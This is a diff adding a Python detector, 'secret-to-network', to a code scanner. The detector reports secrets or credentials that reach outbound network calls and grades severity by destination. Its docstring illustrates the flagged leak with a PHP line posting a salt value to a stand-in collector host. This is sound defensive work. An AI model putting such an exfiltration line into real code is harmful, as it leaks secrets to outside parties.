@@ -1,0 +1,120 @@
+"""# secret-to-network
+
+## What it does
+Reports a secret or a database credential that reaches a call that leaves the server, with the way it takes. A secret
+that goes where the product's own features send it (the Twilio token to api.twilio.com) is reported as expected, with
+severity info; the expectation is on the pair of secret and destination, never on a file or line.
+
+## Why is this bad
+It is the leak itself.
+
+## Example
+```php
+http_post("https://collector.example.net/", array("k" => $GLOBALS['salt']));
+```
+
+## References
+- CWE-200, CWE-201, CWE-359
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Mapping
+
+from scanner.analysis.destinations import LOCAL, OWN_SERVER
+from scanner.analysis.summary import Hit
+from scanner.analysis.values import Trace, all_labels, merge_labels
+from scanner.detectors.base import Detector, Scene, finding, rule, steps
+from scanner.detectors.egress import details
+from scanner.detectors.targets import expected, leaves, target
+from scanner.model.finding import Category, Confidence, Finding, Severity, TraceStep
+from scanner.model.signature import Certainty, Secret
+
+RULE = rule("secret-to-network", Category.EXFILTRATION, "Secret reaches a call that leaves the server", __doc__)
+_IGNORED_ROLES = frozenset({"handle", "client", "callback", "file-out"})
+_HASH = "hash-of:"
+
+
+def _labels(scene: Scene, hit: Hit) -> Mapping[str, Trace]:
+    labels: Mapping[str, Trace] = {}
+    for role in sorted(hit.roles):
+        if role not in _IGNORED_ROLES and not role.startswith("tls:"):
+            labels = merge_labels(labels, all_labels(hit.roles[role]))
+    return {label: trace for label, trace in labels.items() if scene.result.state.is_secret(label)}
+
+
+def _find(scene: Scene) -> Iterable[Finding]:
+    best: dict[tuple[str, str, int], tuple[int, Finding]] = {}
+    for hit in scene.result.hits:
+        labels = _labels(scene, hit)
+        if not labels or _harmless(hit):
+            continue
+        place = target(scene, hit)
+        outside = leaves(place.destinations)
+        if not outside and not place.by_caller:
+            continue
+        for label in sorted(labels):
+            found = _finding(scene, hit, label, labels[label], outside)
+            key = (label, hit.inner[0] + str(hit.inner[1]) + hit.signature.id, hit.function)
+            known = best.get(key)
+            if known is None or (len(found.trace), found.line) < (known[0], known[1].line):
+                best[key] = (len(found.trace), found)
+    for _length, found in best.values():
+        yield found
+
+
+def _harmless(hit: Hit) -> bool:
+    """Local database work and file functions on local paths do not send."""
+    if hit.signature.certainty is Certainty.IF_URL:
+        return not any(role in hit.roles for role in ("url", "host"))
+    return False
+
+
+def _finding(scene: Scene, hit: Hit, label: str, trace: Trace, outside: list[str]) -> Finding:
+    plain = label.removeprefix(_HASH)
+    secret = scene.result.state.origins.by_label.get(plain)
+    severity = _severity(secret, outside, hashed=label.startswith(_HASH))
+    where = ", ".join(outside) if outside else "a destination that callers decide"
+    api = hit.api if not hit.via else f"{hit.via[0]} ({hit.api})"
+    last = TraceStep(scene.program.path(hit.function), hit.line, f"sent by {api} to {where}")
+    digest = "a digest of " if label.startswith(_HASH) else ""
+    verdict = "as expected" if severity is Severity.INFO else "which is not a known destination of it"
+    return finding(
+        scene,
+        RULE,
+        hit.function,
+        hit.line,
+        hit.end_line,
+        span=(hit.start, hit.end),
+        severity=severity,
+        confidence=Confidence.LIKELY if hit.certain else Confidence.POSSIBLE,
+        api=api,
+        message=f"{digest}{plain} reaches {api}() and goes to {where}, {verdict}",
+        destinations=outside,
+        secrets=[plain],
+        details=details(hit),
+        trace=(*steps(trace), last),
+    )
+
+
+def _severity(secret: Secret | None, outside: list[str], *, hashed: bool) -> Severity:
+    if secret is not None and secret.severity_floor == "info":
+        return Severity.INFO
+    if secret is not None and outside and all(_expected(secret, name) for name in outside):
+        return Severity.INFO
+    worst = Severity.CRITICAL if any(_foreign(name) for name in outside) else Severity.HIGH
+    if not hashed:
+        return worst
+    return Severity.HIGH if worst is Severity.CRITICAL else Severity.MEDIUM
+
+
+def _expected(secret: Secret, name: str) -> bool:
+    return name in (LOCAL, OWN_SERVER) or expected(secret, name)
+
+
+def _foreign(name: str) -> bool:
+    """A destination that the code names itself, unlike one that a setting names or that is unknown."""
+    return ":" not in name and name not in ("unresolved", "user-input", OWN_SERVER, LOCAL, "local-mail-server")
+
+
+DETECTOR = Detector(RULE, _find)
